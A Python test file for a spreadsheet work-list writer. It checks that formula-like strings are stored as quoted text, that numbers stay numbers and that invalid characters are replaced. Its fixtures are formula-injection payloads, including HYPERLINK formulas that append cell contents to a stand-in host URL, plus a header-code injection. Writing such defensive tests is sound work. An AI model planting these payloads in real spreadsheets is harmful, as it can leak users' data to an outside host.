"""The work list writer over a row where every column is hostile (issue 3): region names from a
reference folder, names, measures and rule texts that start like formulas are text; numbers,
negative ones too, stay numbers."""

from __future__ import annotations

import re
import zipfile

from openpyxl import load_workbook

from orchestration.cli.worklists import PRINTED, build_workbook, save_private

LEADS = ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1")


def hostile(index: int) -> str:
    return LEADS[index % len(LEADS)] + f'HYPERLINK("http://x.example/?d="&A{index})'


def test_every_string_in_every_sheet_is_text_and_numbers_stay_numbers(tmp_path):
    printed = [hostile(i) for i in range(len(PRINTED))]
    printed[[c for _, c in PRINTED].index("members")] = -3
    row = (hostile(99), "110101001", *printed)
    guide = [tuple(hostile(i) for i in range(5))]
    township = '=HYPERLINK("http://x.example","镇")&\'&B'
    path = tmp_path / "list.xlsx"
    save_private(build_workbook("2026-06", township, [row], guide), path)

    with zipfile.ZipFile(path) as book:
        sheets = [p for p in book.namelist() if p.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 2
        for part in sheets:
            assert not re.search(rb"<f[ >/]", book.read(part)), part
    workbook = load_workbook(path)
    listed, rules = workbook.worksheets
    cells = list(listed.iter_rows(min_row=2, max_row=2))[0]
    typed = [row[0], *printed]
    for cell, value in zip(cells, typed, strict=False):
        if isinstance(value, str):
            # XML keeps a bare CR as a line break: the text is still what was typed.
            assert cell.value == value.replace("\r", "\n"), cell.coordinate
            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
        else:
            assert (cell.value, cell.data_type) == (value, "n"), cell.coordinate
    assert [cell.value for cell in next(rules.iter_rows(min_row=2, max_row=2))] == list(guide[0])
    assert all(cell.quotePrefix for cell in next(rules.iter_rows(min_row=2, max_row=2)))
    assert "&&B" in listed.oddHeader.center.text  # "&" doubled: printed, not a header code


def test_characters_a_workbook_cannot_hold_are_replaced_not_a_crash(tmp_path):
    printed = ["名\x01字"] * len(PRINTED)
    path = tmp_path / "list.xlsx"
    save_private(build_workbook("2026-06", "镇", [("L1", "110101001", *printed)], []), path)
    cells = next(load_workbook(path).worksheets[0].iter_rows(min_row=2, max_row=2))
    assert cells[1].value == "名\ufffd字"


def test_the_cadre_simulator_writes_names_back_as_text(tmp_path):
    from synthetic.cadres import fill_worklists

    printed = ['=HYPERLINK("http://x.example","点击")'] * len(PRINTED)
    rows = [(f"202605-{i:016x}", "110101001", *printed) for i in range(20)]
    lists = tmp_path / "lists"
    lists.mkdir()
    save_private(build_workbook("2026-05", "镇", rows, []), lists / "worklist_2026-05_1.xlsx")
    returned = fill_worklists(lists, "2026-05", tmp_path / "2026-06")
    with zipfile.ZipFile(returned) as book:
        assert not re.search(rb"<f[ >/]", book.read("xl/worksheets/sheet1.xml"))
